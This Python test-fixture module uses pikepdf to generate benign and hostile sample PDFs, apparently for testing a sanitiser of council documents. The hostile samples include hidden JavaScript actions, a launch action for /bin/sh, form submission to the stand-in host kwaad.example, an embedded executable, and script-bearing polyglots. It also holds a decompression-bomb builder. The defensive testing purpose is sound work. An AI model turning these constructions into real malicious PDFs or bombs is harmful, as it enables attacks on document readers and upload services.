"""PDF's of councils, good and bad ones, made with pikepdf."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String


def maak(bewerk: Callable[[Any], None] = lambda pdf: None, **opties: Any) -> bytes:
    """One page, after `bewerk` had it; `opties` are those of pikepdf's `save`."""
    uit = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        bewerk(pdf)
        pdf.save(uit, **opties)
    return uit.getvalue()


def _actie(soort: str, **rest: Any) -> Any:
    return Dictionary({"/Type": Name.Action, "/S": Name(soort)} | {f"/{naam}": waarde for naam, waarde in rest.items()})


def _bij_openen(soort: str, **rest: Any) -> Callable[[Any], None]:
    def bewerk(pdf: Any) -> None:
        pdf.Root.OpenAction = _actie(soort, **rest)

    return bewerk


def _script_in_namen(pdf: Any) -> None:
    actie = _actie("/JavaScript", JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(actie)])))


def _script_zonder_type(pdf: Any) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"app.alert(1)"))


def _script_op_de_bladzijde(pdf: Any) -> None:
    knop = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=_actie("/JavaScript", JS=String("x")))
    pdf.pages[0].Annots = Array([pdf.make_indirect(knop)])


def _script_dat_nergens_hangt(pdf: Any) -> None:
    pdf.Root.OnzeSleutel = Array([Array([Dictionary(Diep=Array([_actie("/JavaScript", JS=String("x"))]))])])


def _bij_sluiten(pdf: Any) -> None:
    pdf.pages[0].AA = Dictionary(C=_actie("/URI", URI=String("https://kwaad.example/")))


def _bijlage(pdf: Any) -> None:
    pdf.attachments["kwaad.exe"] = b"MZ"


def _invulformulier(pdf: Any) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=Stream(pdf, b"<xdp/>"), Fields=Array([]))


def _link(pdf: Any) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=_actie("/URI", URI=String("https://www.hove.be/"))
    )
    pdf.pages[0].Annots = Array([pdf.make_indirect(link)])


def _bladwijzer(pdf: Any) -> None:
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Dictionary(Type=Name.StructElem, S=Name.Sect))


GOEDE = {
    "leeg": maak(),
    "link": maak(_link),
    "bladwijzer": maak(_bladwijzer),
    "gelineariseerd": maak(linearize=True),
    "samengeperst": maak(object_stream_mode=pikepdf.ObjectStreamMode.generate),
}
SLECHTE = {
    "script": {
        "bij openen": maak(_bij_openen("/JavaScript", JS=String("app.alert(1)"))),
        "in de namen": maak(_script_in_namen),
        "zonder type": maak(_script_zonder_type),
        "op de bladzijde": maak(_script_op_de_bladzijde),
        "diep": maak(_script_dat_nergens_hangt),
        "samengeperst": maak(_script_in_namen, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "invulformulier": maak(_invulformulier),
    },
    "start": {
        "programma": maak(_bij_openen("/Launch", F=String("/bin/sh"))),
        "versturen": maak(_bij_openen("/SubmitForm", F=String("https://kwaad.example/"))),
        "bij sluiten": maak(_bij_sluiten),
    },
    "bestand": {"bijlage": maak(_bijlage), "ander bestand": maak(_bij_openen("/GoToE"))},
    "wachtwoord": {
        "om te openen": maak(encryption=pikepdf.Encryption(owner="a", user="b")),
        "om te drukken": maak(encryption=pikepdf.Encryption(owner="a", user="")),
    },
    "geen_pdf": {
        "html": b"<html><script>alert(1)</script>",
        "word": b"PK\x03\x04" + b"\0" * 100,
        "programma": b"MZ" + b"\0" * 100,
        "iets voor de PDF": b"<script>alert(1)</script>" + maak(),
    },
    "onleesbaar": {"half": maak()[:60], "alleen de kop": b"%PDF-1.7\n", "ruis": b"%PDF-1.7\n" + bytes(range(256)) * 40},
}


def bom(megabytes: int) -> bytes:
    """A small file that unfolds into this much when its objects are read."""
    vol = zlib.compress(b"10 0 " + b" " * (megabytes * 1024 * 1024) + b"<< /A 1 >>", 9)
    delen = [
        b"%PDF-1.5\n",
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /X 10 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length %d >>\nstream\n" % len(vol)
        + vol
        + b"\nendstream\nendobj\n",
    ]
    plekken, heel = [], b""
    for deel in delen:
        plekken.append(len(heel))
        heel += deel
    rij = b"".join(bytes([1]) + plek.to_bytes(4, "big") + b"\0\0" for plek in plekken[1:])
    tabel = b"\0" * 7 + rij + bytes([1]) + len(heel).to_bytes(4, "big") + b"\0\0"
    tabel += bytes([2]) + (4).to_bytes(4, "big") + b"\0\0"  # object 10 stands in the first place of object 4
    kop = b"5 0 obj\n<< /Type /XRef /Size 11 /W [1 4 2] /Index [0 6 10 1] /Root 1 0 R /Length %d >>\n" % len(tabel)
    einde = b"stream\n" + tabel + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(heel)
    return heel + kop + einde
